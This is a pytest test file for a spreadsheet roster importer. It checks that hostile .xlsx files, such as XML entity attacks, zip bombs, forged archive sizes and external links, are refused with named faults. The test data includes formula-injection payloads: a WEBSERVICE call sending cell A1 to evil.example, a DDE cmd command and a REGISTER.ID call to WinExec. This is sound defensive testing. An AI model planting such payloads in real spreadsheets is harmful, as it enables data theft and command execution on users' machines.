"""Files that were made to do harm: each is refused in its own words before it does."""

import pytest

from elearn.sheets.faults import SENTENCES, Fault, refusal_of
from elearn.sheets.opening import opened
from elearn.sheets.xlsx import archive, reach
from tests.people.roster import hostile
from tests.people.roster.hostile import Entry

HEAD = hostile.row(1, A="Họ và tên")


def values_of(data):
    """Return what each sheet of a file holds, read to the end."""
    return [(sheet.name, list(sheet.rows)) for sheet in opened(data).sheets]


def fault_of(data):
    with pytest.raises(Fault) as caught:
        values_of(data)
    assert caught.value.code in SENTENCES
    assert "%(" not in str(refusal_of(caught.value.code, caught.value.values))
    return caught.value.code


def with_part(name, content):
    return hostile.zipped(hostile.parts(HEAD) | {name: content})


def entries():
    return [Entry(name, content) for name, content in hostile.parts(HEAD).items()]


def test_the_sound_workbook_that_all_others_are_made_of_is_read():
    assert values_of(hostile.book(HEAD)) == [("DS", [(1, ["Họ và tên"])])]


@pytest.mark.parametrize("name", [hostile.SHEET, hostile.STRINGS, "xl/drawings/drawing1.xml"])
@pytest.mark.parametrize("declared", [hostile.LAUGHS, hostile.STEALS], ids=["laughs", "steals"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_are_refused_in_each_part_and_encoding(name, declared, encoding):
    assert fault_of(with_part(name, (declared + "<a>&i;</a>").encode(encoding))) == "entities"


def test_a_part_packed_as_nothing_real_is_packed_is_not_unpacked_to_the_end():
    assert fault_of(with_part("xl/media/image1.png", bytes(9_000_000))) == "bomb"


def test_what_the_directory_claims_of_a_size_is_not_believed():
    swollen = Entry(hostile.SHEET, b" " * 9_000_000, claimed=100)
    others = [entry for entry in entries() if entry.name != hostile.SHEET]

    assert fault_of(hostile.archive(*others, swollen)) == "bomb"


def test_many_parts_that_are_each_small_enough_are_counted_together(monkeypatch):
    monkeypatch.setattr(archive, "MOST_UNPACKED", 2_000_000)
    packed = hostile.packed(bytes(750_000))
    many = [Entry(f"xl/media/{number}", packed, is_packed=True) for number in range(3)]

    assert fault_of(hostile.archive(*entries(), *many)) == "swollen"


@pytest.mark.parametrize(
    ("make", "code"),
    [
        (lambda: hostile.archive(*entries(), is_overlapping=True), "twisted"),
        (lambda: hostile.archive(*entries(), Entry("XL\\Workbook.xml", b"<a/>")), "twisted"),
        (lambda: hostile.archive(*(Entry(f"{n}.xml") for n in range(3_001))), "many_parts"),
        (
            lambda: hostile.archive(*(Entry(one.name, b"", flags=1) for one in entries())),
            "password",
        ),
        (
            lambda: hostile.archive(*(Entry(one.name, b"", method=12) for one in entries())),
            "broken",
        ),
        (lambda: hostile.book(HEAD)[:400], "torn"),
        (lambda: with_part(hostile.SHEET, b"<worksheet><row></worksheet>"), "broken"),
    ],
    ids=["overlapping", "twice", "thousands", "locked", "oddly packed", "torn", "no XML"],
)
def test_a_twisted_archive_is_refused(make, code):
    assert fault_of(make()) == code


def test_a_short_text_that_a_million_cells_repeat_is_a_long_one():
    assert fault_of(hostile.zipped(hostile.repeating("x" * 32_000, 5_000))) == "repeated_text"
    assert fault_of(hostile.zipped(hostile.repeating("x" * 33_000, 2))) == "long_text"
    assert len(values_of(hostile.zipped(hostile.repeating("x" * 3_000, 50)))[0][1]) == 49


def test_a_token_without_end_is_not_read_over_and_over():
    assert fault_of(hostile.book(f'<row r="1" x="{"y" * 3_000_000}"/>')) == "long_text"


@pytest.mark.parametrize(("row", "column"), [(1_048_576, "N"), (7, "XFD"), (1_048_576, "XFD")])
def test_a_cell_far_out_is_named(row, column):
    with pytest.raises(Fault) as caught:
        values_of(hostile.book(HEAD + hostile.row(row, A="x", **{column: "z"})))

    assert caught.value.code == "far_out"
    assert str(caught.value.values["cell"]).endswith(str(row))


def test_formats_without_values_cost_nothing_however_far_they_reach():
    bare = "".join(f'<row r="{n}"><c r="A{n}" s="1"/><c s="1"/></row>' for n in range(2, 3_000))
    last = '<row r="1048576"><c r="XFD1048576" s="1"/></row>'

    assert values_of(hostile.book(HEAD + bare + last)) == [("DS", [(1, ["Họ và tên"])])]


def test_dimensions_that_lie_are_not_asked():
    sheet = hostile.worksheet(hostile.row(3, B="Hà"), '<dimension ref="A1:XFD1048576"/>')

    assert values_of(with_part(hostile.SHEET, sheet.encode())) == [("DS", [(3, [None, "Hà"])])]
    assert values_of(hostile.boasting()) == [("DS", [(1, ["Hà"])])]
    assert values_of(hostile.boasting(9, 9, first=2**31)) == [("DS", [(1, ["Hà"])])]


def test_elements_within_elements_without_end_hold_nothing():
    nested = "<a>" * 100_000 + "</a>" * 100_000

    assert values_of(hostile.book(HEAD + nested)) == [("DS", [(1, ["Họ và tên"])])]


@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("http://evil.example/?q="&amp;A1)',
        'HYPERLINK("file:///C:/Windows/calc.exe","Bấm")',
        'HYPERLINK("\\\\evil\\x","Bấm")',
        "cmd|' /C calc'!A0",
        'REGISTER.ID("kernel32","WinExec")',
        "VLOOKUP(A1,[1]Sheet1!$A:$B,2,0)",
        "'C:\\HSNV\\[danh sách.xlsx]Sheet 1'!A1",
    ],
)
def test_a_formula_that_calls_outside_is_refused_with_its_cell(formula):
    with pytest.raises(Fault) as caught:
        values_of(hostile.book(HEAD + hostile.formula(formula)))

    assert caught.value.code == "outside_formula"
    assert caught.value.values["cell"] == "B2"


@pytest.mark.parametrize(
    "target", ["http://evil.example/a.xlsx", r"\\evil\x", "file:///D:\\HSNV\\ds.xlsx", "Book2.xlsx"]
)
def test_a_link_to_another_file_is_refused_with_its_name(target):
    assert fault_of(hostile.linked(target)) == "outside_link"


@pytest.mark.parametrize("inner", ['<ddeLink ddeService="cmd"/>', '<oleLink progId="x"/>'])
def test_a_link_that_starts_a_program_is_refused(inner):
    assert fault_of(hostile.linked(inner=inner)) == "commands"


def test_more_sheets_rows_or_columns_than_a_roster_has_are_refused(monkeypatch):
    sheet = b'<sheet name="DS" sheetId="1" r:id="rId1"/>'
    workbook = hostile.parts()["xl/workbook.xml"]

    assert fault_of(with_part("xl/workbook.xml", workbook.replace(sheet, sheet * 51))) == (
        "many_sheets"
    )
    monkeypatch.setattr(reach, "MOST_ROWS", 20)
    assert fault_of(b"a\n" * 21) == "many_rows"
    assert fault_of(b"a," * 101 + b"b\n") == "far_out"
